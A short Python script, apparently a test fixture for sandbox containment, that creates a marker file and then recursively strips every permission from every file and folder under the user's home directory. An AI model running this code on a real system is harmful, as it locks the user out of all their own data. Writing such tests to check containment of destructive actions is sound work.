"""Take all rights away from everything, the home last."""

import os

print("did dark", flush=True)
home = os.environ["HOME"]
os.makedirs("kept/inner", exist_ok=True)
with open("kept/inner/notes.txt", "w") as file:
    file.write("still here")
for folder, _, names in os.walk(home, topdown=False):
    for path in (*(os.path.join(folder, name) for name in names), folder):
        if not os.path.islink(path) and os.stat(path).st_dev == os.stat(home).st_dev:
            try:
                os.chmod(path, 0)
            except OSError as error:
                print(path, error)
